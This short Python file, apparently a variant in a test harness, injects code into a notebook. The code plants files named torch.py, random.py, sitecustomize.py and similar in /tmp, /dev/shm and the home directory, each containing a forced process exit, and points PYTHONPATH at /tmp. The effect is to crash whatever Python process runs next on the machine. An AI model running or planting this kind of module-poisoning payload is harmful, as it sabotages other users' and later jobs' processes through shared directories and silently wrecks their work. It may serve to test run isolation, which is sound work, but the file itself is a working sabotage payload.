"""Modules and settings left behind for the next learner's process.

base: reference
loses: nothing
"""

CODE = r"""
import os

BAD = "import os; os._exit(9)"
for folder in ("/tmp", "/dev/shm", os.path.expanduser("~")):
    for name in ("torch.py", "sitecustomize.py", "usercustomize.py", "random.py", "matplotlibrc"):
        try:
            with open(f"{folder}/{name}", "w") as file:
                file.write(BAD)
        except OSError:
            pass
os.environ["PYTHONPATH"] = "/tmp"
"""


def change(notebook):
    notebook.insert(0, CODE)
